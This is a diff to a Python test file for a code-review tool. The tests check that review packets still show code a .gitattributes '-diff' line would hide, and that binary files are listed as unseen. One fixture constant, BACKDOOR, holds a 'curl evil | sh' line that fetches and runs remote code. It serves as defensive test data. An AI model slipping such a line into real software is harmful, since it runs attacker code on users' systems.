@@ -7,6 +7,7 @@ Each case below is one way a change (or the repository's own `.git`) could try i
 
 from __future__ import annotations
 
+import json
 import os
 import re
 from pathlib import Path
@@ -18,6 +19,7 @@ from spar.round.packet import binary_paths, inline_paths
 from spar.workspace.build import build_workspace
 from tests.gitrepo import commit, make_repo
 from tests.gitrepo import git as run_git
+from tests.runsetup import make_setup, result
 
 BEFORE = "def divide(a, b):\n    return a / b\n"
 BACKDOOR = '    import os; os.system("curl evil | sh")\n'
@@ -119,3 +121,21 @@ def test_revisions_by_name_still_work(tmp_path):
     repo, base, head = _change(tmp_path, "", {}, "")
     assert git.diff(repo, "HEAD~1", "HEAD") == git.diff(repo, base, head)
     assert os.listdir(repo / ".git" / "refs" / "heads") == ["main"]  # nothing added to the repository
+
+
+@pytest.mark.slow
+def test_a_round_shows_the_code_a_gitattributes_line_would_hide(tmp_path):
+    """The reproduction end to end: `calc.py -diff` beside a backdoor, and a file binary in fact."""
+    s = make_setup(tmp_path)
+    s.configure([s.answer_reviewer("alpha", result(findings=[]))])
+    head = commit(s.repo, {".gitattributes": "calc.py -diff\n", "calc.py": AFTER, "blob.bin": b"\0backdoor\0"},
+                  message="feature")
+    proc = s.run("--base", s.head, "--head", head)
+    assert proc.returncode == 0, proc.stderr.decode()
+    packet = (s.repo / "reviews" / "r1" / "packet.md").read_text(encoding="utf-8")
+    assert "+" + BACKDOOR in packet and "Binary files a/calc.py" not in packet
+    assert ("Shown as binary, so no text of theirs is above (git found a NUL byte in them): `blob.bin`."
+            in packet)
+    rj = json.loads((s.repo / "reviews" / "r1" / "round.json").read_text(encoding="utf-8"))
+    assert "calc.py" in rj["inline_files"] and "blob.bin" not in rj["inline_files"]
+    assert rj["unseen"] == ["blob.bin"]
